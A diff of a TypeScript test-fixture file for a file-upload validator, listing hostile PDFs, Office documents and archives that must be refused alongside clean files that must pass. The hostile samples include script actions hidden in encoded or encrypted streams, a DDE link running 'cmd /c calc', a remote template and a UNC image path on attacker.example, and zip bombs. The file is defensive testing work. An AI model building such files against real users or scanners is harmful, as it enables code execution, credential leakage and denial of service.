@@ -6,16 +6,15 @@ import {
   appendUpdate,
   buildPdf,
   cfb,
-  deflatedEntry,
   deflatedZeros,
-  docx,
   documentObjects,
+  docx,
   encodings,
   type PdfObject,
   png,
+  type RawZipEntry,
   rawZip,
   relationshipTypes,
-  type RawZipEntry,
   scriptAction,
   storedEntry,
   strToU8,
@@ -123,9 +122,21 @@ export const hostileFiles: HostileFile[] = [
     detail: 'Upload a file, allowed extension: pdf',
   },
   // Issue #9: script markers in plain sight.
-  refusedPdf('a PDF with a /JavaScript names tree', () => pdf('/Names << /JavaScript 6 0 R >>', ['<< /Names [(a) 7 0 R] >>', scriptAction]), true),
-  refusedPdf('a PDF with catalogue /AA /JS', () => pdf('/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'), true),
-  refusedPdf('a PDF whose /OpenAction launches a program', () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), false),
+  refusedPdf(
+    'a PDF with a /JavaScript names tree',
+    () => pdf('/Names << /JavaScript 6 0 R >>', ['<< /Names [(a) 7 0 R] >>', scriptAction]),
+    true,
+  ),
+  refusedPdf(
+    'a PDF with catalogue /AA /JS',
+    () => pdf('/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
+    true,
+  ),
+  refusedPdf(
+    'a PDF whose /OpenAction launches a program',
+    () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
+    false,
+  ),
   refusedPdf('a PDF whose /OpenAction runs a script', () => pdf('/OpenAction 6 0 R', [scriptAction]), true),
   refusedPdf(
     'a PDF with an /EmbeddedFiles names tree',
@@ -136,15 +147,35 @@ export const hostileFiles: HostileFile[] = [
       ]),
     true,
   ),
-  refusedPdf('a PDF with a #-escaped /JavaScript name', () => pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'), true),
+  refusedPdf(
+    'a PDF with a #-escaped /JavaScript name',
+    () => pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
+    true,
+  ),
   refusedPdf('a script inside a deflated object stream', hiddenScript(encodings.flate), true),
   // Issue #23 finding 1: the six variants the probe published, and XFA.
   refusedPdf('a script in an object stream with /ASCIIHexDecode', hiddenScript(encodings.asciiHex), true),
   refusedPdf('a script in an object stream with /ASCII85Decode', hiddenScript(encodings.ascii85), true),
-  refusedPdf('a script in an object stream with [/ASCIIHexDecode /FlateDecode]', hiddenScript(encodings.hexThenFlate), true),
-  refusedPdf('a script in an object stream whose zlib header is 0x58', hiddenScript(encodings.flateSmallWindow), true),
-  refusedPdf('a script in a Flate object stream after `stream` and CR alone', hiddenScript(encodings.flate, '\r'), true),
-  refusedPdf('a script action written /JavaScript\\0/JS\\0(…)', () => pdf('/OpenAction << /S /JavaScript\0/JS\0(app.alert\\(1\\)) >>'), true),
+  refusedPdf(
+    'a script in an object stream with [/ASCIIHexDecode /FlateDecode]',
+    hiddenScript(encodings.hexThenFlate),
+    true,
+  ),
+  refusedPdf(
+    'a script in an object stream whose zlib header is 0x58',
+    hiddenScript(encodings.flateSmallWindow),
+    true,
+  ),
+  refusedPdf(
+    'a script in a Flate object stream after `stream` and CR alone',
+    hiddenScript(encodings.flate, '\r'),
+    true,
+  ),
+  refusedPdf(
+    'a script action written /JavaScript\\0/JS\\0(…)',
+    () => pdf('/OpenAction << /S /JavaScript\0/JS\0(app.alert\\(1\\)) >>'),
+    true,
+  ),
   refusedPdf(
     'a PDF with an XFA form and a <script>',
     () =>
@@ -160,7 +191,11 @@ export const hostileFiles: HostileFile[] = [
   ),
   // Further hiding places a reader honours.
   refusedPdf('a script in a RunLength object stream', hiddenScript(encodings.runLength), true),
-  refusedPdf('a script in a Flate object stream with the PNG predictor', hiddenScript(encodings.flatePng), true),
+  refusedPdf(
+    'a script in a Flate object stream with the PNG predictor',
+    hiddenScript(encodings.flatePng),
+    true,
+  ),
   ...(['rc4-128', 'aes-128', 'aes-256'] as const).map((encrypt) =>
     refusedPdf(
       `a script in an object stream encrypted with ${encrypt} (no password)`,
@@ -183,7 +218,11 @@ export const hostileFiles: HostileFile[] = [
       ),
     true,
   ),
-  refusedPdf('a page that runs a script when opened', () => buildPdf({ objects: documentObjects({ pageExtra: '/AA << /O 6 0 R >>', extra: [scriptAction] }) }), true),
+  refusedPdf(
+    'a page that runs a script when opened',
+    () => buildPdf({ objects: documentObjects({ pageExtra: '/AA << /O 6 0 R >>', extra: [scriptAction] }) }),
+    true,
+  ),
   refusedPdf(
     'a hidden link annotation that runs a script',
     () =>
@@ -193,7 +232,7 @@ export const hostileFiles: HostileFile[] = [
           extra: ['<< /Type /Annot /Subtype /Link /F 2 /Rect [0 0 10 10] /A 7 0 R >>', scriptAction],
         }),
       }),
-    true,
+    false, // pdf.js runs no link scripts, so it reports none; Acrobat runs them
   ),
   refusedPdf(
     'a link annotation that launches a program',
@@ -256,7 +295,8 @@ export const hostileFiles: HostileFile[] = [
           members: [6],
           encoding: {
             filter: '/Filter /FlateDecode',
-            encode: (plain) => deflateSync(Buffer.concat([plain, Buffer.alloc(65 * 1_048_576, 0x20)]), { level: 1 }),
+            encode: (plain) =>
+              deflateSync(Buffer.concat([plain, Buffer.alloc(65 * 1_048_576, 0x20)]), { level: 1 }),
           },
         },
       }),
@@ -274,7 +314,8 @@ export const hostileFiles: HostileFile[] = [
     name: 'a PDF followed by HTML after %%EOF',
     purpose: 'pdf',
     filename: 'notice.pdf',
-    bytes: () => buildPdf({ objects: documentObjects(), tail: Buffer.from('<html><script>alert(1)</script></html>') }),
+    bytes: () =>
+      buildPdf({ objects: documentObjects(), tail: Buffer.from('<html><script>alert(1)</script></html>') }),
     message: wrongType,
     detail: 'Upload a file, allowed extension: pdf',
   },
@@ -316,31 +357,66 @@ export const hostileFiles: HostileFile[] = [
   ),
   office('an Excel 4.0 macro sheet at xl/worksheets/sheet2.xml', () =>
     xlsx({
-      parts: { 'xl/worksheets/sheet2.xml': strToU8('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>') },
+      parts: {
+        'xl/worksheets/sheet2.xml': strToU8(
+          '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
+        ),
+      },
       overrides: { '/xl/worksheets/sheet2.xml': 'application/vnd.ms-excel.macrosheet+xml' },
       relationships: [{ id: 'rId9', type: relationshipTypes.xlMacrosheet, target: 'worksheets/sheet2.xml' }],
     }),
   ),
-  office('a workbook declared macro-enabled', () => xlsx({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' })),
+  office('a workbook declared macro-enabled', () =>
+    xlsx({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
+  ),
   office('an OLE object embedded in a workbook', () =>
     xlsx({
       parts: { 'xl/embeddings/oleObject1.bin': oleBytes() },
-      overrides: { '/xl/embeddings/oleObject1.bin': 'application/vnd.openxmlformats-officedocument.oleObject' },
+      overrides: {
+        '/xl/embeddings/oleObject1.bin': 'application/vnd.openxmlformats-officedocument.oleObject',
+      },
       relationships: [{ id: 'rId9', type: relationshipTypes.oleObject, target: 'embeddings/oleObject1.bin' }],
     }),
   ),
   office('a workbook linked to another workbook (external link)', () =>
     xlsx({
-      parts: { 'xl/externalLinks/externalLink1.xml': strToU8('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>') },
-      overrides: { '/xl/externalLinks/externalLink1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml' },
-      relationships: [{ id: 'rId9', type: relationshipTypes.externalLink, target: 'externalLinks/externalLink1.xml' }],
+      parts: {
+        'xl/externalLinks/externalLink1.xml': strToU8(
+          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+        ),
+      },
+      overrides: {
+        '/xl/externalLinks/externalLink1.xml':
+          'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
+      },
+      relationships: [
+        { id: 'rId9', type: relationshipTypes.externalLink, target: 'externalLinks/externalLink1.xml' },
+      ],
     }),
   ),
   office('a workbook whose image is fetched from a UNC path when opened', () =>
-    xlsx({ relationships: [{ id: 'rId9', type: relationshipTypes.image, target: '\\\\attacker.example\\share\\a.png', external: true }] }),
+    xlsx({
+      relationships: [
+        {
+          id: 'rId9',
+          type: relationshipTypes.image,
+          target: '\\\\attacker.example\\share\\a.png',
+          external: true,
+        },
+      ],
+    }),
   ),
   office('a workbook hyperlink to a file: URL', () =>
-    xlsx({ relationships: [{ id: 'rId9', type: relationshipTypes.hyperlink, target: 'file:///C:/Windows/System32/calc.exe', external: true }] }),
+    xlsx({
+      relationships: [
+        {
+          id: 'rId9',
+          type: relationshipTypes.hyperlink,
+          target: 'file:///C:/Windows/System32/calc.exe',
+          external: true,
+        },
+      ],
+    }),
   ),
   office(
     'a Word document with an attached remote template',
@@ -348,7 +424,12 @@ export const hostileFiles: HostileFile[] = [
       docx({
         relParts: {
           'word/_rels/settings.xml.rels': [
-            { id: 'rId1', type: relationshipTypes.attachedTemplate, target: 'http://attacker.example/t.dotm', external: true },
+            {
+              id: 'rId1',
+              type: relationshipTypes.attachedTemplate,
+              target: 'http://attacker.example/t.dotm',
+              external: true,
+            },
           ],
         },
       }),
@@ -359,7 +440,11 @@ export const hostileFiles: HostileFile[] = [
     'a Word document with an ActiveX control',
     () =>
       docx({
-        parts: { 'word/activeX/activeX1.xml': strToU8('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>') },
+        parts: {
+          'word/activeX/activeX1.xml': strToU8(
+            '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
+          ),
+        },
         overrides: { '/word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml' },
         relationships: [{ id: 'rId9', type: relationshipTypes.control, target: 'activeX/activeX1.xml' }],
       }),
@@ -377,8 +462,18 @@ export const hostileFiles: HostileFile[] = [
     'document',
     'notice.docx',
   ),
-  office('a Word document declared macro-enabled', () => docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), 'document', 'notice.docx'),
-  office('an .xls with a _VBA_PROJECT storage', () => cfb(['Root Entry', 'Workbook', '_VBA_PROJECT_CUR', '_VBA_PROJECT']), 'tender-document', 'boq.xls'),
+  office(
+    'a Word document declared macro-enabled',
+    () => docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
+    'document',
+    'notice.docx',
+  ),
+  office(
+    'an .xls with a _VBA_PROJECT storage',
+    () => cfb(['Root Entry', 'Workbook', '_VBA_PROJECT_CUR', '_VBA_PROJECT']),
+    'tender-document',
+    'boq.xls',
+  ),
   office('a zip bomb dressed as a workbook (30 MB of zeros in a few KB)', () =>
     xlsx({ parts: { 'xl/worksheets/sheet1.xml': new Uint8Array(30 * 1_048_576) } }),
   ),
@@ -389,16 +484,24 @@ export const hostileFiles: HostileFile[] = [
     ]),
   ),
   // Archives.
-  refusedArchive('a zip bomb as an archive', () => zipSync({ 'a.txt': new Uint8Array(30 * 1_048_576) }, { level: 9 })),
-  refusedArchive('an archive whose headers declare 1,000 bytes for 200 MB', () => rawZip([lyingZipEntry('tender.pdf')])),
+  refusedArchive('a zip bomb as an archive', () =>
+    zipSync({ 'a.txt': new Uint8Array(30 * 1_048_576) }, { level: 9 }),
+  ),
+  refusedArchive('an archive whose headers declare 1,000 bytes for 200 MB', () =>
+    rawZip([lyingZipEntry('tender.pdf')]),
+  ),
   refusedArchive('a three-level nested archive of 1 GB', () =>
     rawZip([storedEntry('level2.zip', rawZip([storedEntry('level3.zip', gigabyteZip())]))]),
   ),
-  refusedArchive('an archive whose entries overlap (one stream counted many times)', () => {
-    const zip = rawZip([deflatedEntry('a.pdf', Buffer.alloc(2048, 0x41)), deflatedEntry('b.pdf', Buffer.alloc(2048, 0x41))]);
-    // Point the second central entry at the first local header.
+  refusedArchive('an archive whose entries overlap (one entry inside another)', () => {
+    // Entry a.txt stores a copy of b.txt's whole local record; the directory then points b.txt
+    // into a.txt's data. Every header agrees; only the byte ranges give it away (the trick
+    // behind overlapping-file zip bombs).
+    const b = storedEntry('b.txt', Buffer.from('payload'));
+    const bRecord = rawZip([b]).subarray(0, 30 + 'b.txt'.length + 'payload'.length);
+    const zip = rawZip([storedEntry('a.txt', bRecord), b]);
     const cd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
-    zip.writeUInt32LE(0, cd + 42);
+    zip.writeUInt32LE(30 + 'a.txt'.length, cd + 42);
     return zip;
   }),
   // Issue #9 others.
@@ -406,7 +509,8 @@ export const hostileFiles: HostileFile[] = [
     name: 'a grievance PDF over 2 MB',
     purpose: 'grievance-evidence',
     filename: 'evidence.pdf',
-    bytes: () => buildPdf({ objects: documentObjects({ extra: [`<< /Padding (${'x'.repeat(2 * 1_048_576)}) >>`] }) }),
+    bytes: () =>
+      buildPdf({ objects: documentObjects({ extra: [`<< /Padding (${'x'.repeat(2 * 1_048_576)}) >>`] }) }),
     message: 'validation.file.size',
     detail: 'File size should be less than 2 MB',
   },
@@ -434,7 +538,13 @@ function entriesOf(zip: Uint8Array): RawZipEntry[] {
 }
 
 /** Files that must pass, in the shapes real writers produce. */
-export const cleanFiles: { name: string; purpose: FilePurpose; filename: string; bytes: () => Uint8Array; kind: FileKind }[] = [
+export const cleanFiles: {
+  name: string;
+  purpose: FilePurpose;
+  filename: string;
+  bytes: () => Uint8Array;
+  kind: FileKind;
+}[] = [
   {
     name: 'a PDF that opens at a page view (/OpenAction without script) with a web link',
     purpose: 'pdf',
@@ -444,7 +554,9 @@ export const cleanFiles: { name: string; purpose: FilePurpose; filename: string;
         objects: documentObjects({
           catalog: '/OpenAction [3 0 R /Fit]',
           pageExtra: '/Annots [6 0 R]',
-          extra: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://assamtenders.gov.in/) >> >>'],
+          extra: [
+            '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://assamtenders.gov.in/) >> >>',
+          ],
         }),
       }),
     kind: 'pdf',
@@ -454,14 +566,22 @@ export const cleanFiles: { name: string; purpose: FilePurpose; filename: string;
     purpose: 'pdf',
     filename: 'amended.pdf',
     bytes: () =>
-      appendUpdate(buildPdf({ objects: documentObjects() }), { 6: '<< /Type /Catalog /Pages 2 0 R /PageMode /UseNone >>' }, 6),
+      appendUpdate(
+        buildPdf({ objects: documentObjects() }),
+        { 6: '<< /Type /Catalog /Pages 2 0 R /PageMode /UseNone >>' },
+        6,
+      ),
     kind: 'pdf',
   },
   {
     name: 'a PDF 1.5 with object streams and a cross-reference stream',
     purpose: 'tender-document',
     filename: 'nit.pdf',
-    bytes: () => buildPdf({ objects: documentObjects(), objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate } }),
+    bytes: () =>
+      buildPdf({
+        objects: documentObjects(),
+        objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate },
+      }),
     kind: 'pdf',
   },
   {
@@ -475,7 +595,12 @@ export const cleanFiles: { name: string; purpose: FilePurpose; filename: string;
     name: 'a PDF encrypted for permissions only (opens without a password)',
     purpose: 'pdf',
     filename: 'protected.pdf',
-    bytes: () => buildPdf({ objects: documentObjects(), objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate }, encrypt: 'aes-128' }),
+    bytes: () =>
+      buildPdf({
+        objects: documentObjects(),
+        objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate },
+        encrypt: 'aes-128',
+      }),
     kind: 'pdf',
   },
   {
@@ -505,7 +630,12 @@ export const cleanFiles: { name: string; purpose: FilePurpose; filename: string;
         parts: { 'xl/media/image1.png': png },
         relationships: [
           { id: 'rId8', type: relationshipTypes.image, target: 'media/image1.png' },
-          { id: 'rId9', type: relationshipTypes.hyperlink, target: 'https://assamtenders.gov.in/?a=1&b=2', external: true },
+          {
+            id: 'rId9',
+            type: relationshipTypes.hyperlink,
+            target: 'https://assamtenders.gov.in/?a=1&b=2',
+            external: true,
+          },
         ],
       }),
     kind: 'xlsx',
@@ -515,7 +645,16 @@ export const cleanFiles: { name: string; purpose: FilePurpose; filename: string;
     purpose: 'document',
     filename: 'notice.docx',
     bytes: () =>
-      docx({ relationships: [{ id: 'rId9', type: relationshipTypes.hyperlink, target: 'mailto:tenders@assam.gov.in', external: true }] }),
+      docx({
+        relationships: [
+          {
+            id: 'rId9',
+            type: relationshipTypes.hyperlink,
+            target: 'mailto:tenders@assam.gov.in',
+            external: true,
+          },
+        ],
+      }),
     kind: 'docx',
   },
   {
